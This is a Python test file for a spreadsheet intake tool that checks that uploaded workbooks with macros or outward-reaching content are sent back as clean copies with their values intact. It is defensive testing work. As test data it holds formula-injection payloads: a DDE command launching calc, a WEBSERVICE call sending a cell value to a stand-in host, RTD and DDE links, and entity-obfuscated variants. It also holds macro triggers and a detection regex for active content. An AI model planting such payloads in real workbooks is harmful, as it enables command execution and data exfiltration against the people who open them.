"""Nothing that acts by itself is in anything that we write, whatever came in."""

import re
from collections.abc import Iterator
from datetime import date
from decimal import Decimal

import pytest

from tests.hostile.archives import parts_of, zipped
from tests.hostile.cells import active
from tests.hostile.spoiling import BOOK, SHEET, Case, edited
from tests.pipeline.round.test_small_round import workbook
from xlreport.checks.returns.return_checks import check
from xlreport.checks.returns.return_identity_check import Identity, identify
from xlreport.messages import languages
from xlreport.model.plans.plan import Plan
from xlreport.model.returns.finding import Finding
from xlreport.model.returns.submission import Submission
from xlreport.pipeline.forms.making_forms import form_for
from xlreport.pipeline.intake.examining_intake_files import History
from xlreport.pipeline.intake.intake_marked_copies import Forms, marked_copy
from xlreport.workbook.department.form_open_cells import fill_cells
from xlreport.workbook.reading.container.container_active_content import active_parts
from xlreport.workbook.reading.container.container_gate import open_file
from xlreport.workbook.reading.reading_acting_formulas import acting_parts
from xlreport.workbook.reading.reading_exact_cells import Exactly
from xlreport.workbook.reading.reading_known_headings import Headings
from xlreport.workbook.reading.submission_reader import read

ACTING = re.compile(
    rb"vbaproject|externallink|ddelink|oleobject|connections|activex|targetmode=.external|webextension|customui"
    rb"|macrosheet|datamashup|fmlamacro|querytable"
)
PLAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def reaching(sound: bytes) -> Iterator[Case]:
    """Formulas in cells, names, rules and validations that reach out, and drawings that run a macro."""
    for number, formula in enumerate((
        "cmd|'/c calc'!A0", "WEBSERVICE(&quot;http://x.example/&quot;&amp;A1)", "RTD(&quot;x.y&quot;,,&quot;z&quot;)",
        "'file:///tmp/x.ods'#$S.A1", "'[x.xlsx]S'!A1", "DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)",
    )):  # fmt: skip
        cell = f'<row r="900"><c r="A900"><f>{formula}</f><v>1</v></c></row></sheetData>'
        yield Case(f"cell-{number}", edited(sound, SHEET, "</sheetData>", cell), "")
        name = f'<definedNames><definedName name="x{number}">{formula}</definedName>'
        yield Case(f"name-{number}", edited(sound, BOOK, "<definedNames>", name), "")
        rule = (
            '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="99">'
            f"<formula>{formula}</formula></cfRule></conditionalFormatting>"
        )
        text = parts_of(sound)[SHEET].decode()
        before = next(one for one in ("<conditionalFormatting", "<dataValidations") if one in text)
        yield Case(f"rule-{number}", edited(sound, SHEET, before, rule + before), "")
        hidden = formula.replace("'", "&#39;").replace("|", "&#124;").replace("W", "&#87;")
        yield Case(
            f"hidden-{number}",
            edited(sound, SHEET, before, rule.replace(formula, hidden) + before),
            "",
        )
    vml = b'<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:FmlaMacro>[0]!x</x:FmlaMacro></xml>'
    yield Case("button", zipped(parts_of(sound) | {"xl/drawings/vmlDrawing9.vml": vml}), "")
    yield Case(
        "picture",
        zipped(parts_of(sound) | {"xl/drawings/drawing9.xml": b"<x><sp macro='[1]!x'/></x>"}),
        "",
    )


def findings_of(came: Submission, plan: Plan) -> tuple[Finding, ...]:
    who = identify(came, [plan])
    assert isinstance(who, Identity)
    return check(came, form_for(plan, who.department, who.period))


def sent_back(
    content: bytes, plan: Plan, words: Headings, language: str = "zh"
) -> tuple[Submission, bytes, bool]:
    """What came, what goes back, and whether that can be sent again."""
    came = read(content, "a.xlsm", words)
    assert isinstance(came, Submission)
    forms = Forms((plan,), History(()), words)
    whose = (plan.code, "2020-Q2", "RST", 1)
    return came, *marked_copy(content, came, findings_of(came, plan), language, forms, whose)


@pytest.mark.long
def test_nothing_active_goes_back(small_plan: Plan, sound: bytes, words: Headings) -> None:
    """Of every workbook that acts or reaches out a fresh one goes back, in which nothing does; its values are there."""
    for case in (*active(sound), *reaching(sound)):
        came, back, again = sent_back(case.content, small_plan, words)
        opened = open_file(back).package
        assert again, case.name
        for name, part in opened.parts.items():
            assert not ACTING.search(part.lower() + name.encode()), (case.name, name)
        assert (active_parts(opened), acting_parts(opened)) == ((), ()), case.name
        second = read(back, "a.xlsx", words)
        assert isinstance(second, Submission)
        assert second.active == ()
        if not any(one.code == "formula-elsewhere" for one in came.findings):
            assert values(second) == values(came), case.name


def values(submission: Submission) -> dict[tuple[str, str], object]:
    """What the sender typed, field by field."""
    open_fields = (
        "actual",
        "progress",
        "state",
        "remark",
        "problems",
        "next_steps",
        "source",
        "expected",
    )
    return {
        (e.code, f): e.cells[f].raw for e in submission.entries for f in open_fields if f in e.cells
    }


def test_values_of_all_kinds_are_carried_over(small_plan: Plan, words: Headings) -> None:
    """Numbers, percentages, thousands, days, booleans and error values are in the fresh form just as they came."""
    plain = workbook(small_plan, "RST")
    form = read(plain, "a.xlsx", words)
    assert isinstance(form, Submission)
    where = {(e.code, f): c for e in form.entries for f, c in e.cells.items()}
    odd = {
        ("ZB001", "actual"): Exactly(Decimal(26000), "thousands"),
        ("ZB002", "actual"): Exactly(Decimal("0.032"), "percent"),
        ("ZB003", "actual"): Exactly("#DIV/0!", error=True),
        ("ZB004", "actual"): Exactly(date(2020, 6, 30), "date"),
        ("ZB001", "remark"): Exactly(True),
        ("RW001", "expected"): Exactly(Decimal(20200930), "plain"),
        ("RW002", "expected"): Exactly(Decimal(44012), "plain"),
        ("RW003", "expected"): Exactly(date(1900, 1, 6), "date"),
    }
    sent = fill_cells(
        plain, {(where[k].sheet, where[k].address): value for k, value in odd.items()}
    )
    macros = edited(
        zipped(parts_of(sent) | {"xl/vbaProject.bin": b"x"}), "[Content_Types].xml", PLAIN, MACRO
    )
    came, back, again = sent_back(macros, small_plan, words)
    second = read(back, "a.xlsx", words)
    assert again
    assert isinstance(second, Submission)
    cells = {(e.code, f): c for e in second.entries for f, c in e.cells.items()}
    first = {(e.code, f): c for e in came.entries for f, c in e.cells.items()}
    assert {key: (cells[key].kind, cells[key].raw) for key in odd} == {
        key: (first[key].kind, first[key].raw) for key in odd
    }
    assert values(second) == values(came)
    kept = [
        [
            (one.code, one.indicator, one.column, one.value)
            for one in findings_of(submission, small_plan)
        ]
        for submission in (came, second)
    ]
    assert [one for one in kept[0] if one[0] != "has-macros"] == kept[1]


@pytest.mark.parametrize("language", languages())
def test_the_list_in_front_says_why(
    small_plan: Plan, sound: bytes, words: Headings, language: str
) -> None:
    """Whoever gets a fresh form reads why it is not their own file, and what is not in it."""
    content = zipped(parts_of(sound) | {"xl/vbaProject.bin": b"x"})
    _, back, _ = sent_back(content, small_plan, words, language)
    front = next(part for name, part in parts_of(back).items() if "sheetCheck" in name).decode()
    assert ("宏" if language == "zh" else "macros") in front
    assert front.count("<row ") > 6
